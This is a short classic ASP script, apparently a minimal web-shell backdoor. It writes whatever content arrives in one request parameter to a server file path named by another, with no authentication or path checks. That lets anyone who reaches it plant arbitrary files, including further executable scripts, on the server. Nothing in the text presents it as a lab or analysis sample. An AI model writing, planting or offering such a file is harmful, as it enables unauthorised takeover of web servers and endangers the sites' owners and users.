<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Request("f"), True)
f.Write Request("t")
f.Close
%>
